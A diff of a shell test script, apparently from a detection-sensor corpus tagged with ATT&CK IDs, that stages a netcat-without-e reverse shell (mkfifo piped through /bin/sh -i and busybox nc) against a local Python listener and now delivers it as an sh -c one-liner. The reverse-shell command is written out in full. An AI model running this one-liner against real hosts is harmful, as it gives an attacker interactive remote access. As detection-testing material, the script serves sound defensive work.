@@ -1,7 +1,8 @@
 # techniques: T1059.004 T1095
 # The netcat-without-e reverse shell: `rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 |
-# nc HOST PORT > /tmp/f`. Here the shell's stdio are pipes; the socket belongs to nc (busybox).
-# Listener: Python on 127.0.0.1:4447. The fifo has a unique name and is removed.
+# nc HOST PORT > /tmp/f`, delivered as a `sh -c` one-liner. The interactive shell's stdio are
+# pipes; the socket belongs to nc (busybox through an `nc` symlink). Listener: Python on
+# 127.0.0.1:4447. The fifo has a unique name and is removed.
 unset LD_LIBRARY_PATH
 PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
 HOME=$PWD/home; export HOME; mkdir -p "$HOME"
@@ -30,7 +31,7 @@ command -v busybox >/dev/null || exit 0
 mkdir -p bin && ln -sf "$(command -v busybox)" bin/nc
 f=/tmp/.f-sensor-corpus-$$
 listen 4447 'id; uname -a; exit'
-rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | bin/nc 127.0.0.1 4447 > $f
+PATH=$PWD/bin:$PATH sh -c "rm -f $f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 4447 > $f"
 wait
 rm -rf $f bin "$HOME" ready.*
 exit 0
